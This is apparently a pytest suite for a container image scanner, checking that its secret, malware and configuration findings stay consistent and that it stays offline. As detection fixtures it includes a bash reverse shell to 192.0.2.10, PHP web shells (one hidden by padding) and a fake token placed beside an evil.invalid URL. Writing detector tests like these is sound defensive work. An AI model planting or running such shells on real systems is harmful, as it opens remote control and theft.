"""Each engine by itself and all together: what is found stays the same, however and wherever it is read."""

import hashlib
import json
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from daemons.push import push
from daemons.registry import registry
from end_to_end.command import Holdfast
from end_to_end.test_offline import _FORBIDDEN
from holdfast.range.made_up import github_token
from holdfast.range.planted import history, planted_layers, run_configuration
from world import file, image, layer

KINDS = {"secrets": "secret", "malware": "malware", "configuration": "configuration"}
ALL = ("--offline", "-q", "-f", "json")
Key = tuple[str, str]


def planted(where: Path, more: Iterable[bytes] = (), **fields: Any) -> Path:
    """The range's image, as a layout or in another form, with more layers on top."""
    layers = planted_layers()
    lines = [*(one.created_by for one in layers), *("RUN more" for _ in more), *(f"#{line}" for line in history())]
    return image(
        where, [*(one.tar for one in layers), *more], history=lines, config={"config": run_configuration()}, **fields
    )


def scan(holdfast: Holdfast, target: object, *arguments: object) -> dict[str, Any]:
    outcome = holdfast("scan", target, *ALL, *arguments)
    assert outcome.code in (0, 3), outcome.err
    return outcome.report


def found(report: dict[str, Any]) -> set[Key]:
    return {(one["rule"], one["fingerprint"]) for one in report["findings"]}


def rules(report: dict[str, Any]) -> set[str]:
    return {one["rule"] for one in report["findings"]}


def without_times(report: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in report.items() if key not in ("created", "statistics")}


# One engine


@pytest.mark.parametrize("engine", KINDS)
def test_one_engine_finds_what_all_together_find_of_its_kind(tmp_path: Path, holdfast: Holdfast, engine: str) -> None:
    target = f"oci:{planted(tmp_path)}"
    alone, together = scan(holdfast, target, "--only", engine), scan(holdfast, target)
    assert {one["kind"] for one in alone["findings"]} == {KINDS[engine]}
    assert found(alone) == {
        (one["rule"], one["fingerprint"]) for one in together["findings"] if one["kind"] == KINDS[engine]
    }
    assert alone["engines"] == [engine]


@pytest.mark.parametrize("engine", ["packages", "vulnerabilities"])
def test_engines_for_packages_find_nothing_else(tmp_path: Path, holdfast: Holdfast, engine: str) -> None:
    report = scan(holdfast, f"oci:{planted(tmp_path)}", "--only", engine)
    assert {one["kind"] for one in report["findings"]} <= {"vulnerability"}


def test_an_unknown_engine_is_wrong_usage(holdfast: Holdfast) -> None:
    outcome = holdfast("scan", "dir:.", "--only", "secret")
    assert outcome.code == 2
    assert "secrets" in outcome.err


# The same again


def test_the_same_image_three_times_gives_the_same_report(tmp_path: Path, holdfast: Holdfast) -> None:
    target = f"oci:{planted(tmp_path)}"
    reports = [without_times(scan(holdfast, target)) for _ in range(3)]
    assert reports[0] == reports[1] == reports[2]
    assert len(rules(reports[0])) > 15  # which ones: tests/range/test_planted.py


@pytest.mark.parametrize("form", ["oci-archive", "docker-archive", "docker-archive-old"])
def test_an_archive_gives_the_same_findings(tmp_path: Path, holdfast: Holdfast, form: str) -> None:
    layout = scan(holdfast, f"oci:{planted(tmp_path)}")
    packed = scan(holdfast, f"{form.removesuffix('-old')}:{planted(tmp_path, form=form, name='packed')}")
    assert rules(packed) == rules(layout)
    secrets = [{key for key in found(one) if key[0].startswith(("secret.", "malware."))} for one in (layout, packed)]
    assert secrets[0] == secrets[1]


def test_a_registry_gives_the_same_findings(tmp_path: Path, holdfast: Holdfast) -> None:
    path = planted(tmp_path)
    with registry(tmp_path / "registry") as it:
        target = push(it, path, "team/app:1.0").tagged
        outcome = holdfast("scan", target, "-q", "-f", "json", "--only", "secrets,malware,configuration")
    assert outcome.code in (0, 3), outcome.err
    layout = scan(holdfast, f"oci:{path}", "--only", "secrets,malware,configuration")
    assert rules(outcome.report) - {"image.unpinned", "image.not-pinned", "image.no-digest"} == rules(layout)


def test_a_rebuilt_image_keeps_the_fingerprints(tmp_path: Path, holdfast: Holdfast) -> None:
    before = scan(holdfast, f"oci:{planted(tmp_path)}")
    again = planted(tmp_path, [layer({"srv/new": "x"})], name="image", created="2026-11-02T00:00:00Z")
    assert found(scan(holdfast, f"oci:{again}")) == found(before)
    below = image(
        tmp_path / "below", [layer({"srv/new": "x"}), *(one.tar for one in planted_layers())],
        history=["RUN first", *(one.created_by for one in planted_layers()), *(f"#{line}" for line in history())],
        config={"config": run_configuration()}, name="image",
    )  # fmt: skip
    moved = {key for key in found(scan(holdfast, f"oci:{below}")) if key[0].startswith(("secret.", "malware."))}
    assert moved == {key for key in found(before) if key[0].startswith(("secret.", "malware."))}


def test_every_rule_that_was_found_is_explained(tmp_path: Path, holdfast: Holdfast) -> None:
    found_rules = rules(scan(holdfast, f"oci:{planted(tmp_path)}"))
    assert len(found_rules) > 15
    for rule in found_rules:
        outcome = holdfast("explain", rule)
        assert outcome.code == 0, rule
        assert all(word in outcome.out for word in (rule, "Why:", "Fix:")), outcome.out


def test_a_rule_that_is_none_is_said(holdfast: Holdfast) -> None:
    assert holdfast("explain", "secret.nosuch").code == 4


# Offline


@pytest.mark.parametrize("command", ["scan", "vet"])
def test_no_socket_is_opened_with_every_engine_on(tmp_path: Path, holdfast: Holdfast, command: str) -> None:
    arguments = ["-c", _FORBIDDEN, command, f"oci:{planted(tmp_path)}", "--offline", "-q"]
    outcome = holdfast(*arguments, prefix=[sys.executable], bare=True)
    assert outcome.code in (1, 3), outcome.err
    assert "socket" not in outcome.err


@pytest.mark.parametrize("command", ["scan", "vet"])
def test_verify_is_refused_offline(tmp_path: Path, holdfast: Holdfast, command: str) -> None:
    outcome = holdfast(command, f"oci:{planted(tmp_path)}", "--verify", "--offline")
    assert (outcome.code, outcome.out) == (2, "")
    assert "--offline" in outcome.err


_RECORDED = """
import socket, sys
def resolved(host, *_a, **_k):
    sys.stderr.write(f"asked for {host}\\n")
    raise socket.gaierror(socket.EAI_NONAME, "no")
socket.getaddrinfo = resolved
from holdfast.cli.main import run
sys.argv[0] = "holdfast"
run()
"""


def test_verify_asks_issuers_and_nobody_else(tmp_path: Path, holdfast: Holdfast) -> None:
    # What stands around a secret is the image's author's to choose: no host may come from there.
    token = github_token()
    text = f"GITHUB_API_URL=https://evil.invalid/api\nhttps://x:{token}@evil.invalid/x.git\ntoken: {token}\n"
    path = image(tmp_path, [layer({"srv/deploy.txt": text})])
    arguments = ["-c", _RECORDED, "scan", f"oci:{path}", "--verify", "-q", "--only", "secrets", "-f", "json"]
    outcome = holdfast(*arguments, prefix=[sys.executable], bare=True)
    assert outcome.code in (0, 3), outcome.err
    asked = {line.split()[-1] for line in outcome.err.splitlines() if line.startswith("asked for")}
    assert asked == {"api.github.com"}
    assert token not in outcome.err + outcome.out
    assert any(code.startswith("secret.") for code in outcome.problems)


# The user's own rules and lists


def test_rules_of_ones_own(tmp_path: Path, holdfast: Holdfast) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "good.yar").write_text('rule acme_leak { strings: $a = "acme-internal-only" condition: $a }\n')
    (folder / "bad.yar").write_text("rule broken {\n condition: nosuch\n}\n")
    path = image(tmp_path, [layer({"srv/a.txt": "x acme-internal-only y\n"})])
    outcome = holdfast("scan", f"oci:{path}", *ALL, "--only", "malware", "--malware-rules", folder)
    assert outcome.code == 3
    assert rules(outcome.report) == {"malware.user.acme_leak"}
    assert any("bad.yar" in str(one) for one in outcome.report["problems"])
    outcome = holdfast("scan", f"oci:{path}", *ALL, "--only", "malware")
    assert (outcome.code, outcome.report["findings"]) == (0, [])


def test_a_folder_of_rules_that_is_not_there(holdfast: Holdfast) -> None:
    assert holdfast("scan", "dir:.", "--malware-rules", "nowhere").code == 2


def test_known_digests(tmp_path: Path, holdfast: Holdfast) -> None:
    shell = b"<?php system($_GET['cmd']); ?>\n"
    harmless = b"harmless\n"
    path = image(tmp_path, [layer({"srv/a.php": shell, "srv/b.txt": harmless})])
    lists = {name: hashlib.sha256(data).hexdigest() for name, data in (("good", shell), ("bad", harmless))}
    for name, digest in lists.items():
        (tmp_path / name).write_text(f"{digest}  a file\n")
    only = ("--only", "malware")
    assert rules(scan(holdfast, f"oci:{path}", *only)) == {"malware.php-web-shell"}
    assert rules(scan(holdfast, f"oci:{path}", *only, "--known-good", tmp_path / "good")) == set()
    both = scan(holdfast, f"oci:{path}", *only, "--known-good", tmp_path / "good", "--known-bad", tmp_path / "bad")
    assert rules(both) == {"malware.known-bad-file"}


def test_a_list_that_is_none_names_the_line(tmp_path: Path, holdfast: Holdfast) -> None:
    (tmp_path / "bad").write_text(f"{'0' * 64}\nthis is no digest\n")
    outcome = holdfast("scan", "dir:.", "--known-bad", tmp_path / "bad", "--offline")
    assert outcome.code in (2, 4)
    assert "bad:2" in outcome.err


# Where malware and secrets hide


HIDDEN = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n"


def test_a_program_in_a_folder_of_documentation_is_a_program(tmp_path: Path, holdfast: Holdfast) -> None:
    path = image(tmp_path, [layer({"usr/share/doc/run.sh": file(HIDDEN, mode=0o755)})])
    report = scan(holdfast, f"oci:{path}", "--only", "malware")
    assert [one["confidence"] for one in report["findings"]] == ["high"]


def test_a_zip_behind_a_first_line_is_opened(tmp_path: Path, holdfast: Holdfast) -> None:
    import io
    import zipfile

    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("__main__.py", HIDDEN)
    path = image(tmp_path, [layer({"srv/app.pyz": b"#!/usr/bin/env python3\n" + sink.getvalue()})])
    assert rules(scan(holdfast, f"oci:{path}", "--only", "malware"))


@pytest.mark.xfail(
    strict=True, reason="malware/rules: `filesize <` makes padding hide a web shell, and nothing says so"
)
def test_padding_hides_no_web_shell_silently(tmp_path: Path, holdfast: Holdfast) -> None:
    path = image(tmp_path, [layer({"srv/a.php": "<?php\n" + "// pad\n" * 1_000_000 + "eval($_POST['c']);\n"})])
    report = scan(holdfast, f"oci:{path}", "--only", "malware")
    assert report["findings"] or report["status"] != "complete"


def test_packed_documentation_is_not_opened_and_that_is_said(tmp_path: Path, holdfast: Holdfast) -> None:
    import gzip

    text = f"token: {github_token()}\n"
    path = image(
        tmp_path, [layer({"usr/share/doc/x/a.txt": text, "usr/share/doc/x/b.gz": gzip.compress(text.encode())})]
    )
    report = scan(holdfast, f"oci:{path}", "--only", "secrets")
    assert [(one["location"]["path"], one["confidence"]) for one in report["findings"]] == [
        ("usr/share/doc/x/a.txt", "low")
    ]
    assert [(one["code"], one["gravity"]) for one in report["problems"]] == [("content.documentation", "note")]


def test_the_report_is_one_json_document(tmp_path: Path, holdfast: Holdfast) -> None:
    assert json.loads(holdfast("scan", f"oci:{planted(tmp_path)}", *ALL).out)["schema"]
